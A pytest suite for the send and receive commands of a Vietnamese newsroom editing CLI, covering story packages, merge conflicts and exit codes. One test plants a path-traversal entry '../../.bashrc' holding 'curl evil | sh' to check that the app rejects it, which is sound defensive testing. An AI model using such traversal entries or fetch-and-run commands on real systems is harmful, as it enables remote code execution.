"""`editor-app send` and `editor-app receive` end to end: real data folders, real packages,
real exit codes."""

from __future__ import annotations

import json
import os
import subprocess
import sys
from pathlib import Path

import pytest
from helpers.story_zips import Entry, read_story
from PIL import Image

from editor_app.cli import main


def cli(capsys: pytest.CaptureFixture[str], data: Path, *args: str) -> tuple[int, str, str]:
    code = main(["--data-dir", str(data), *args])
    out, err = capsys.readouterr()
    return code, out, err


@pytest.fixture
def desks(capsys: pytest.CaptureFixture[str], tmp_path: Path) -> tuple[Path, Path]:
    reporter, editor = tmp_path / "reporter", tmp_path / "editor"
    assert cli(capsys, reporter, "whoami", "--name", "Lê Minh", "--role", "reporter")[0] == 0
    assert cli(capsys, editor, "whoami", "--name", "Trần Thu Hà", "--role", "editor")[0] == 0
    return reporter, editor


def _story(capsys: pytest.CaptureFixture[str], data: Path, tmp_path: Path) -> str:
    text = tmp_path / "bai.txt"
    text.write_text(
        "Hội nghị giao ban công tác quý I\n\nSáng 12/4, hội nghị được tổ chức.\n\n"
        "Đồng chí Dương Đức Huy phát biểu.\n\nanh1.jpg\nCác đại biểu dự hội nghị.\n",
        encoding="utf-8",
    )
    Image.new("RGB", (80, 60), (200, 40, 40)).save(tmp_path / "anh1.jpg", "JPEG")
    code, out, err = cli(capsys, data, "import-text", str(text))
    assert code == 0, err
    return out.strip()


def test_send_prints_the_path_and_receive_prints_id_and_outcome(
    capsys: pytest.CaptureFixture[str], desks: tuple[Path, Path], tmp_path: Path
) -> None:
    reporter, editor = desks
    aid = _story(capsys, reporter, tmp_path)
    usb = tmp_path / "usb"
    usb.mkdir()
    code, out, err = cli(capsys, reporter, "send", aid, "--to", str(usb))
    assert code == 0, err
    package = Path(out.strip())
    assert package.parent == usb and package.name.endswith(f"-{aid[:8]}.story.zip")

    code, out, err = cli(capsys, editor, "receive", str(package))
    assert (code, out, err) == (0, f"{aid} new\n", "")
    code, out, _ = cli(capsys, editor, "show", aid, "--json")
    assert json.loads(out)["headline"] == "Hội nghị giao ban công tác quý I"

    # Again, with nothing changed: merged; --json says who sent it.
    code, out, _ = cli(capsys, reporter, "send", aid, "--to", str(usb), "--json")
    sent = json.loads(out)
    assert (sent["id"], sent["by"], sent["role"]) == (aid, "Lê Minh", "reporter")
    code, out, _ = cli(capsys, editor, "receive", sent["path"], "--json")
    got = json.loads(out)
    assert (got["id"], got["outcome"], got["conflicts"]) == (aid, "merged", [])
    assert got["sender"] == {"name": "Lê Minh", "role": "reporter"}

    code, out, _ = cli(capsys, editor, "history", aid, "--json")
    kinds = [h["kind"] for h in json.loads(out)]
    assert kinds[:3] == ["received", "handoff", "received"]


def test_a_conflict_is_printed_and_listed_on_stderr(
    capsys: pytest.CaptureFixture[str], desks: tuple[Path, Path], tmp_path: Path
) -> None:
    reporter, editor = desks
    aid = _story(capsys, reporter, tmp_path)
    code, out, _ = cli(capsys, reporter, "send", aid, "--to", str(tmp_path))
    assert cli(capsys, editor, "receive", out.strip())[0] == 0
    for data, words in ((reporter, "Phóng viên sửa"), (editor, "Biên tập sửa")):
        assert cli(capsys, data, "tag", aid, "--keyword", words)[0] == 0
    code, out, _ = cli(capsys, reporter, "send", aid, "--to", str(tmp_path))
    code, out, err = cli(capsys, editor, "receive", out.strip())
    assert (code, out) == (0, f"{aid} conflict\n")
    assert "xung đột: Từ khóa (keywords)" in err


def test_without_a_user_the_commands_say_how_to_set_one(
    capsys: pytest.CaptureFixture[str], tmp_path: Path
) -> None:
    data = tmp_path / "nobody"
    aid = _story(capsys, data, tmp_path)
    code, out, err = cli(capsys, data, "send", aid, "--to", str(tmp_path))
    assert code == 1 and out == ""
    assert "whoami" in err and "EDITOR_APP_USER" in err


def test_a_hostile_package_is_refused_with_one_line_and_exit_1(
    capsys: pytest.CaptureFixture[str], desks: tuple[Path, Path], tmp_path: Path
) -> None:
    reporter, editor = desks
    aid = _story(capsys, reporter, tmp_path)
    code, out, _ = cli(capsys, reporter, "send", aid, "--to", str(tmp_path))
    story = read_story(Path(out.strip()))
    story.entries.append(Entry("../../.bashrc", b"curl evil | sh"))
    story.list_parts()
    bad = story.write(tmp_path / "bad.story.zip")
    code, out, err = cli(capsys, editor, "receive", str(bad))
    assert (code, out) == (1, "")
    assert err.count("\n") == 1 and "Traceback" not in err
    assert "“../../.bashrc”" in err and "thoát ra ngoài" in err
    code, out, _ = cli(capsys, editor, "list", "--json")
    assert json.loads(out) == []


def test_errors_and_bad_usage_exit_codes(
    capsys: pytest.CaptureFixture[str], desks: tuple[Path, Path], tmp_path: Path
) -> None:
    reporter, editor = desks
    aid = _story(capsys, reporter, tmp_path)
    code, _, err = cli(capsys, reporter, "send", aid, "--to", str(tmp_path / "missing"))
    assert code == 1 and "Không tìm thấy thư mục" in err
    code, _, err = cli(capsys, editor, "receive", str(tmp_path / "missing.story.zip"))
    assert code == 1 and "không tìm thấy tệp" in err
    with pytest.raises(SystemExit) as exit_info:
        main(["--data-dir", str(editor), "receive"])
    assert exit_info.value.code == 2


def test_receive_as_a_real_process(desks: tuple[Path, Path], tmp_path: Path) -> None:
    _, editor = desks
    truncated = tmp_path / "cut.story.zip"
    truncated.write_bytes(b"PK\x03\x04" + bytes(100))
    done = subprocess.run(
        [sys.executable, "-m", "editor_app", "--data-dir", str(editor), "receive", str(truncated)],
        capture_output=True,
        text=True,
        env={**os.environ, "EDITOR_APP_USER": "Trần Thu Hà:editor"},
        timeout=120,
    )
    assert done.returncode == 1
    assert done.stderr.startswith("editor-app: Gói “cut.story.zip” bị từ chối")
